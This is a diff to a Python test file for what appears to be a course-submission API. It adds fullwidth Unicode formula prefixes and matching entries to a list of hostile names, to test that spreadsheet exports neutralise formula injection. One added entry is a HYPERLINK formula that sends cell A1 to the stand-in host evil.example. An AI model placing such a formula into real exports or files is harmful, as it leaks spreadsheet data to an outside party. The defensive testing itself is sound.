@@ -25,7 +25,8 @@ from tests.submissions.conftest import HW5, published_answers
 
 API = "/api/v1"
 BEFORE_DUE = datetime(1999, 12, 31, tzinfo=UTC)
-FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+# The ASCII starts, then their fullwidth forms (a spreadsheet may read those as the ASCII).
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20")
 HW5_WRONG = {"q1.b": "[3, -1, 2]", "q3.a": "109", "q2.a.batchnorm": "B", "q3.b": "108"}
 
 
@@ -347,6 +348,11 @@ HOSTILE_NAMES = [
     "@SUM(A1:A9)",
     "\t=1+1",
     "\r=1+1",
+    "\uff1d1+1",
+    '\uff1dHYPERLINK("http://evil.example/?leak="&A1,"click")',
+    "\uff0bSUM(1,2)",
+    "\uff0d2+3",
+    "\uff20SUM(A1:A9)",
     "Doe, Jane",
     'Say "hello"',
     "first line\nsecond line",
